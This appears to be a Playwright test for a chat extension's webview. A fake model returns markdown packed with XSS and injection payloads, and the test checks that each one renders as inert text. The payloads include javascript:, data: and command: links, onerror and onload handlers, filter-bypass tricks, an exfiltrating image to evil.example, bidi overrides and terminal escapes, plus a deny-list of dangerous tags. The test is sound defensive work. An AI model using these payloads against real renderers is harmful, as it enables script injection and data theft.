import assert from "node:assert/strict";
import type { Frame } from "playwright-core";
import { FakeModelServer } from "../fakes/fakeModelServer.ts";
import { Workbench } from "./workbench.ts";

const escape = "\u001b";

/** Blocks of an answer that means harm, and what a person may see of each: text and links. */
const cases: readonly (readonly [string, string, readonly string[]])[] = [
  ["[a](command:workbench.action.quit)", "command:", []],
  ["[b](COMMAND:workbench.action.quit) <command:x>", "COMMAND:", []],
  ["[c](javascript:alert(1)) [c2](JaVaScRiPt:alert(1))", "", []],
  ["[d](java&#115;cript:alert(1)) [d2](javascript&colon;alert(1)) [d3](java%0ascript:alert(1))", "", []],
  ["[e](vbscript:x) [e2](data:text/html,<script>alert(1)</script>)", "", []],
  ["[f](data:text/html;base64,PHNjcmlwdD4=) [f2](file:///etc/passwd) [f3](vscode://x.y/run)", "", []],
  ["[g][ref]\n\n[ref]: javascript:alert(1)", "", []],
  ["<javascript:alert(1)>", "", []],
  ["[h](https://ok.example/a?b=c)", "h", ["https://ok.example/a?b=c"]],
  [
    "![i](https://evil.example/pixel.png?q=secret) ![i2](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[i]",
    [],
  ],
  ["[![j](https://evil.example/p.png)](command:x)", "[j]", []],
  ["<img src=x onerror=alert(1)> <svg onload=alert(1)> <iframe src=x.html></iframe>", "<img", []],
  ["<scr<script>ipt>alert(1)</scr</script>ipt>", "<scr", []],
  ["<div><a href='command:x'>k</a><form action='x.php'><input></form></div>", "<div>", []],
  ["<details open ontoggle=alert(1)><summary>l</summary></details>", "<details", []],
  ["<style>*{background:url(x.png)}</style><base href='x/'>", "<style>", []],
  ["| m |\n|---|\n| <b onmouseover=alert(1)>n</b> [o](command:x) |", "onmouseover", []],
  ['```js" onmouseover="alert(1)\nlet a;\n```', "let a;", []],
  ["`<img src=x onerror=alert(1)>`", "<img", []],
  ["access \u202enimda\u202c and \u2066isolated\u2069", "⟦U+202E⟧", []],
  [`${escape}]8;;x${escape}\\click${escape}]8;;${escape}\\ ${escape}[2J`, "␛", []],
  ["- [p](javascript:alert(1))\n  - > [q](command:x)", "", []],
];

describe("an answer that means harm", () => {
  let workbench: Workbench;
  let server: FakeModelServer;
  let chat: Frame;

  before(async () => {
    server = await FakeModelServer.start();
    const fake = { preset: "openai-compatible", baseUrl: server.baseUrl, model: "fake-model" };
    workbench = await Workbench.open({ settings: { "flywheel.backends": { fake } } });
    await workbench.executeCommandId("flywheel.ask");
    chat = await workbench.webview({ css: ".composer" });
  });

  after(async () => {
    await workbench?.close();
    await server?.stop();
  });

  it("is shown as text, loads nothing and links nowhere but to pages and files", async () => {
    const requested: string[] = [];
    workbench.page.on("request", (request) => requested.push(request.url()));
    const text = cases.map(([markdown], index) => `### case-${index}\n\n${markdown}`).join("\n\n");
    server.enqueue({ text });
    await chat.locator(".input").fill("What now?");
    await chat.locator(".input").press("Enter");
    await chat.locator(".turn[data-state=complete]").waitFor();
    const shown = await chat.locator(".turn .markdown").evaluate((markdown) => {
      const sections: { text: string; links: string[] }[] = [];
      for (const block of markdown.querySelectorAll(".block")) {
        if (block.querySelector("h3") !== null) {
          sections.push({ text: "", links: [] });
          continue;
        }
        const section = sections.at(-1);
        if (section !== undefined) {
          section.text += `${block.textContent}\n`;
          section.links.push(
            ...[...block.querySelectorAll("[href]")].map((link) => link.getAttribute("href") ?? ""),
          );
        }
      }
      const all = [...markdown.querySelectorAll("*")];
      return {
        sections,
        tags: [...new Set(all.map((element) => element.localName))],
        handlers: all
          .flatMap((element) => element.getAttributeNames())
          .filter((name) => name.startsWith("on")),
        fetching: all.filter((element) => element.hasAttribute("src") || element.hasAttribute("style"))
          .length,
        hidden: /[\u202a-\u202e\u2066-\u2069\u001b]/.test(markdown.textContent ?? ""),
      };
    });
    assert.equal(shown.sections.length, cases.length);
    for (const [index, [markdown, text, links]] of cases.entries()) {
      assert.deepEqual(shown.sections[index]?.links, links, markdown);
      assert.ok(shown.sections[index]?.text.includes(text), `${markdown}: ${shown.sections[index]?.text}`);
    }
    const dangerous = [
      "img",
      "script",
      "iframe",
      "form",
      "input",
      "style",
      "base",
      "details",
      "object",
      "embed",
    ];
    assert.deepEqual(
      shown.tags.filter((tag) => dangerous.includes(tag)),
      [],
    );
    assert.deepEqual(shown.handlers, []);
    assert.equal(shown.fetching, 0);
    assert.equal(shown.hidden, false, "controls that act unseen are made visible");
    assert.deepEqual(
      requested.filter((url) => url.includes("evil.example")),
      [],
    );
    await workbench.screenshot("chat-hostile");
  });
});
